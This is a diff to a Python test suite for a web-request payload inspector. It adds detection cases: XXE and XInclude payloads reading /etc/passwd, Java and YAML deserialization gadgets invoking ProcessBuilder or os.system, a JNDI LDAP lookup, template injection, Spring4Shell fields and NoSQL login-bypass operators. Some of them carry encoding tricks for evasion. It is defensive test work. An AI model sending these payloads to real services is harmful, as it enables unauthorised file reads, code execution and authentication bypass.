@@ -474,18 +474,33 @@ WHERE_EXPLOITS_LIVE = [
                        "body_bytes": XXE.encode("utf-16")}, "xml-external-entities", "xml"),
     ("XXE after a long comment", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
                                         body='<?xml version="1.0"?><!--' + "x" * 6000 + "-->" + XXE[21:]), "xml-external-entities", "xml"),
-    ("an external DTD", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
-                               body='<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r>&e;</r>'),
+    ("XXE in UTF-16 without a byte-order mark", {**record("/ws", method="POST", headers=[["Content-Type", "application/xml"]]),
+                                                 "body_bytes": XXE.encode("utf-16-le")}, "xml-external-entities", "xml"),
+    ("XXE after a comment, sent as text", record("/ws", method="POST", headers=[["Content-Type", "text/plain"]],
+                                                 body="<!-- order -->" + XXE[21:]), "xml-external-entities", "xml"),
+    ("an entity with a name not in ASCII", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
+                                                  body='<!DOCTYPE r [<!ENTITY \u00e9 SYSTEM "file:///etc/passwd">]><r>&\u00e9;</r>'),
      "xml-external-entities", "xml"),
-    ("XMLDecoder behind character references", record("/wls-wsat/x", method="POST", headers=[["Content-Type", "text/xml"]],
-                                                      body=XML_DECODER.replace("ProcessBuilder", "&#80;rocessBuilder")
-                                                      .replace('method="start"', 'method="&#115;tart"')), "code-injection", "xml"),
+    ("XInclude under another prefix", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
+                                             body='<r><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
+                                                  'parse="text"/></r>'), "xml-external-entities", "xml"),
+    ("a class spelt with character references", record("/wls-wsat/x", method="POST", headers=[["Content-Type", "text/xml"]],
+                                                        body='<java><object class="java.lang.&#80;rocessBuilder"><void method="&#115;tart"/>'
+                                                             '</object></java>'), "code-injection", "xml"),
+    ("an XStream gadget", record("/struts2-rest-showcase/orders/3", method="POST", headers=[["Content-Type", "application/xml"]],
+                                 body="<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects"
+                                      ".NativeString></entry></map>"), "code-injection", "xml"),
     ("a YAML tag written out", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
                                       body="!<tag:yaml.org,2002:python/object/apply:os.system> ['id']"), "code-injection", "yaml"),
     ("a YAML tag percent-escaped", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
                                           body="!!python%2Fobject/apply:os.system ['id']"), "code-injection", "yaml"),
     ("a YAML tag directive", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
-                                    body="%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['id']"), "code-injection", "yaml"),
+                                    body="%TAG !p! tag:yaml.org,2002:\n---\n!p!python/object/apply:os.system ['id']"), "code-injection", "yaml"),
+    ("a Java class as a YAML tag", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
+                                          body="!<tag:yaml.org,2002:com.sun.rowset.JdbcRowSetImpl>\ndataSourceName: ldap://x/a"),
+     "code-injection", "yaml"),
+    ("a template expression in YAML", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
+                                             body='x: "{{ config.__class__.__init__.__globals__ }}"'), "template-injection", "yaml"),
     ("Spring4Shell's multipart names", record("/greeting", method="POST",
                                               headers=[["Content-Type", f"multipart/form-data; boundary={BOUNDARY}"]],
                                               body=multipart([("class.module.classLoader.resources.context.parent.pipeline.first.suffix",
@@ -529,8 +544,21 @@ DOCUMENTS_AND_NAMES = [
     ("an Illustrator SVG", "image/svg+xml", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
      '[<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>'),
     ("a feed quoting PHP", "application/rss+xml", "<rss><item><description>read php://stdin in a CLI script</description></item></rss>"),
+    ("a purchase order with its DTD", "text/xml", '<?xml version="1.0"?><!DOCTYPE cXML SYSTEM '
+     '"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML><Request/></cXML>'),
+    ("a property list", "application/xml", '<!DOCTYPE plist SYSTEM "file://localhost/System/Library/DTDs/PropertyList.dtd"><plist/>'),
+    ("a project file", "application/xml", '<Project><ItemGroup><PackageReference Include="System.Diagnostics.Process" '
+     'Version="4.3.0"/></ItemGroup></Project>'),
+    ("DocBook that includes its chapters", "application/xml", '<book xmlns:xi="http://www.w3.org/2001/XInclude">'
+     '<xi:include href="ch1.xml"/></book>'),
+    ("a feed quoting markup", "application/atom+xml", '<entry><content type="text">&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt; '
+     'explained</content><link href="/s?x=%3Cxi%3Ainclude"/></entry>'),
+    ("hyperparameters as PyYAML dumps them", "application/yaml", "lr: 0.01\nbetas: !!python/tuple\n- 0.9\n- 0.999\n"),
     ("a CouchDB query", "application/json", '{"selector": {"year": {"$gt": 2010}, "$or": [{"a": 1}, {"b": {"$exists": true}}]}}'),
     ("a Parse query", "application/json", '{"where": {"score": {"$gte": 1000}, "name": {"$regex": "^a"}}, "_method": "GET"}'),
+    ("filters on fields named like secrets' neighbours", "application/json",
+     '{"shipping": {"$gt": 10}, "tokens": {"$gt": 100}, "spin": {"$lt": 3}, "email": {"$regex": "^a"}}'),
+    ("Strapi filters", "application/x-www-form-urlencoded", "filters[title][$eq]=hello&filters[price][$gt]=10&pagination[page]=1"),
 ]
 
 
@@ -553,3 +581,26 @@ def test_a_documents_reading_is_never_remembered_for_a_value_of_the_same_text() 
     assert fresh.inspect(from_record(record("/x", method="POST", headers=[["Content-Type", "text/xml"]], body=sql))) == ()
     hits = fresh.inspect(from_record(record("/x", method="POST", headers=JSON_TYPE, body=json.dumps({"q": sql}))))
     assert hits and hits[0].kind == "sqli" and hits[0].location == "json:$.q"
+
+
+def test_a_text_upload_in_utf16_is_not_taken_for_a_document(inspector: PayloadInspector) -> None:
+    text = "Use System.Diagnostics.Process to start a program; see <Process> in the docs.".encode("utf-16")
+    f = dataclasses.replace(from_record(record("/upload", method="POST", headers=[["Content-Type", "application/octet-stream"]])),
+                            body_prefix=text, content_length=len(text))
+    assert inspector.inspect(f) == ()
+
+
+@pytest.mark.parametrize("name,rec", [
+    ("a query operator for a password", record("/login", method="POST", headers=JSON_TYPE, body='{"userPassword": {"$ne": null}}')),
+    ("a hashed password", record("/login", method="POST", headers=JSON_TYPE, body='{"password_hash": {"$gt": ""}}')),
+    ("a reset token", record("/reset", method="POST", headers=JSON_TYPE, body='{"resetToken": {"$ne": null}}')),
+    ("an operator type", record("/login", method="POST", headers=JSON_TYPE, body='{"password": {"$type": "string"}}')),
+    ("a PIN by remainder", record("/verify", method="POST", headers=JSON_TYPE, body='{"user_pin": {"$mod": [2, 0]}}')),
+    ("a form's brackets", record("/login", method="POST", headers=FORM_TYPE, body="username%5B%24ne%5D=x&password%5B%24ne%5D=x")),
+    ("a nested form's brackets", record("/login", method="POST", headers=FORM_TYPE, body="user[password][$regex]=.*")),
+    ("server-side JavaScript", record("/api/find?q[$where]=sleep(100)")),
+])
+def test_nosql_injection_is_an_operator_in_place_of_a_secret_or_server_side_javascript(inspector: PayloadInspector, name: str,
+                                                                                      rec: dict[str, Any]) -> None:
+    hits = inspector.inspect(from_record(rec))
+    assert hits and hits[0].kind == "nosql-injection", hits
